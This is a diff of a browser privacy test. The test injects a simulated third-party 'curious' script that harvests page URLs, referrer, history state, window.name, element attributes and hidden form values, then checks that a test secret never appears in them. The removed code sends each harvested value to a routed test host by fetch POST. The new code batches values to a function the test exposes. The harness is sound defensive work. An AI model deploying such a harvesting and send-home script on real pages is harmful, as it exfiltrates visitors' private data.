@@ -133,13 +133,15 @@ test("a click and a form that the browser posts before the page's code is there 
 
 /** Tells home every address that a script on a page can read: of the page, its history, its links, forms and requests. */
 const curious = `(() => {
-  const known = new Set();
+  const [known, fresh] = [new Set(), []];
   const tell = (what) => {
     const text = String(what ?? "");
     if (known.has(text)) return;
     known.add(text);
-    fetch("${host}/records", { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(text) });
+    fresh.push(text);
   };
+  // A request for each text would cost more than the visit.
+  const send = () => fresh.length > 0 && tellHome(fresh.splice(0));
   const tellAll = () => {
     tell(location.href), tell(document.referrer), tell(JSON.stringify(history.state)), tell(window.name);
     for (const entry of navigation.entries()) tell(entry.url);
@@ -147,6 +149,7 @@ const curious = `(() => {
     for (const element of document.querySelectorAll("*"))
       for (const { name, value } of element.attributes) if (name !== "class" && name !== "style" && name !== "d") tell(value);
     for (const { type, value } of document.querySelectorAll("input")) if (type === "hidden") tell(value);
+    send();
   };
   for (const name of ["pushState", "replaceState"]) {
     const original = history[name];
@@ -160,6 +163,7 @@ const curious = `(() => {
   navigation.addEventListener("navigate", ({ destination, formData }) => {
     tell(destination.url);
     if (formData === null) tellAll();
+    else send();
   });
   let isDue = false;
   const tellSoon = () => {
@@ -180,9 +184,9 @@ test("over a whole visit no address that a third party's script can read, and no
   problems.allow(/./);
   await context.grantPermissions(["clipboard-read", "clipboard-write"]);
   const told: string[] = [];
+  await page.exposeFunction("tellHome", (texts: string[]) => void told.push(...texts));
   await page.route(`${host}/**`, async (route) => {
     const request = route.request();
-    if (request.url().endsWith("/records")) told.push(request.postDataJSON());
     await route.fulfill({ contentType: "text/javascript", body: request.url().endsWith("/script.js") ? curious : "" });
   });
   const secret = "secret-of-ada@curious.example";
